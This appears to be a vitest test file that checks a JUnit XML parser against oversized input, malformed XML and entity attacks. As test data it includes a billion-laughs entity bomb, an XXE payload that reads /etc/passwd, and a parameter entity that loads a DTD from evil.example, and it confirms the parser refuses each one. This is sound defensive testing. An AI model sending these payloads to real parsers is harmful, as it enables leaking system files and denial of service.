// parseJUnit on hostile, broken and huge input: limits, malformed XML, DTD attacks.
import { describe, expect, it } from "vitest";
import { JUnitLimitError, JUnitSyntaxError, parseJUnit } from "./junit.ts";

/** `n` distinct passing testcases. */
const cases = (n: number) =>
  Array.from({ length: n }, (_, i) => `<testcase classname="c" name="t${i}" time="0.001"/>`).join(
    "",
  );
/** Elements nested `depth` levels deep. */
const nested = (depth: number) => "<a>".repeat(depth) + "</a>".repeat(depth);

describe("parseJUnit: limits", () => {
  it("accepts 50,000 testcases and refuses 50,001 by default", () => {
    expect(parseJUnit(`<testsuite name="big">${cases(50_000)}</testsuite>`)).toHaveLength(50_000);
    expect(() => parseJUnit(`<testsuite name="big">${cases(50_001)}</testsuite>`)).toThrow(
      JUnitLimitError,
    );
  });

  it("counts repeated testcases against maxCases", () => {
    const repeated = '<testcase classname="c" name="same"/>'.repeat(3);
    expect(() => parseJUnit(`<testsuite>${repeated}</testsuite>`, { maxCases: 2 })).toThrow(
      expect.objectContaining({ name: "JUnitLimitError", limit: "maxCases", value: 2 }),
    );
    expect(parseJUnit(`<testsuite>${repeated}</testsuite>`, { maxCases: 3 })).toHaveLength(1);
  });

  it("accepts nesting up to maxDepth and refuses deeper, without recursion", () => {
    expect(() => parseJUnit(nested(64))).not.toThrow();
    expect(() => parseJUnit(nested(65))).toThrow(
      expect.objectContaining({ name: "JUnitLimitError", limit: "maxDepth" }),
    );
    expect(() => parseJUnit(nested(6), { maxDepth: 5 })).toThrow(JUnitLimitError);
    // A million levels fail fast on the limit instead of overflowing a stack.
    expect(() => parseJUnit(nested(1_000_000))).toThrow(JUnitLimitError);
  });

  it("reads a large report with big outputs", () => {
    const output = `<system-out><![CDATA[${"log line\n".repeat(1_000_000)}]]></system-out>`;
    const failure = `<failure message="boom">${"at frame\n".repeat(10_000)}</failure>`;
    const xml = `<testsuite name="s">${cases(20_000)}<testcase name="f">${failure}</testcase>${output}</testsuite>`;
    expect(xml.length).toBeGreaterThan(10_000_000);
    const tests = parseJUnit(xml);
    expect(tests).toHaveLength(20_001);
    expect(tests.at(-1)).toMatchObject({ name: "f", outcome: "failed", message: "boom" });
  });
});

describe("parseJUnit: malformed XML", () => {
  const broken: [string, string][] = [
    ["an empty document", ""],
    ["text only (an HTML error page, say)", "Not Found"],
    ["an unclosed root", '<testsuite name="s"><testcase name="t"/>'],
    ["an unclosed testcase", '<testsuite><testcase name="t"></testsuite>'],
    ["a mismatched end tag", "<testsuite><testcase></failure></testsuite>"],
    ["a stray end tag", "<testsuite/></testsuite>"],
    ["a start tag cut off", '<testsuite name="s"'],
    ["an unclosed attribute value", '<testsuite name="s><testcase/></testsuite>'],
    ["an unquoted attribute", "<testsuite name=s></testsuite>"],
    ["an attribute without a value", "<testsuite disabled></testsuite>"],
    ["an unterminated comment", "<testsuite><!-- never closed </testsuite>"],
    [
      "an unterminated CDATA section",
      "<testsuite><system-out><![CDATA[ never </system-out></testsuite>",
    ],
    ["two root elements", "<testsuite/><testsuite/>"],
    [
      "a testcase inside a testcase",
      '<testsuite><testcase name="a"><testcase name="b"/></testcase></testsuite>',
    ],
    ["a bare markup declaration", "<!ELEMENT testsuite ANY><testsuite/>"],
  ];
  for (const [what, xml] of broken) {
    it(`throws JUnitSyntaxError on ${what}`, () => {
      expect(() => parseJUnit(xml)).toThrow(JUnitSyntaxError);
    });
  }

  it("accepts what XML allows: BOM, declaration, comments, PIs, '>' in values, single quotes", () => {
    const xml = `\uFEFF<?xml version="1.0"?>
<!-- generated -->
<?xml-stylesheet href="x"?>
<testsuites><testsuite name='a > b'><testcase name="t" classname='c' time = "1"/></testsuite></testsuites>
<!-- trailing -->`;
    expect(parseJUnit(xml)).toMatchObject([
      { suite: "a > b", name: "t", classname: "c", durationMs: 1000 },
    ]);
  });
});

describe("parseJUnit: entity and DTD attacks", () => {
  it("refuses a billion-laughs DTD", () => {
    const lol = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<testsuite name="&lol3;"><testcase name="&lol3;"/></testsuite>`;
    expect(() => parseJUnit(lol)).toThrow(/entity declarations are not allowed/);
  });

  it("refuses external entities (XXE)", () => {
    const xxe = `<!DOCTYPE testsuite [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<testsuite><testcase name="&xxe;"/></testsuite>`;
    expect(() => parseJUnit(xxe)).toThrow(JUnitSyntaxError);
    const parameter = `<!DOCTYPE t [<!entity % p SYSTEM "http://evil.example/x.dtd"> %p;]><t/>`;
    expect(() => parseJUnit(parameter)).toThrow(JUnitSyntaxError);
  });

  it("never expands undeclared entities and never fetches an external DTD", () => {
    const xml = `<!DOCTYPE testsuite SYSTEM "http://evil.example/junit.dtd">
<testsuite name="&xxe;"><testcase name="a&amp;b &unknown; &#0; &#xD800; &#x1F600; &#99999999;"/></testsuite>`;
    expect(parseJUnit(xml)).toMatchObject([
      { suite: "&xxe;", name: "a&b &unknown; \uFFFD \uFFFD \u{1F600} \uFFFD" },
    ]);
  });

  it("keeps expansion linear: many references stay as written", () => {
    const refs = "&a;".repeat(100_000);
    const [test] = parseJUnit(`<testsuite><testcase name="${refs}"/></testsuite>`);
    expect(test?.name).toHaveLength(refs.length);
  });
});
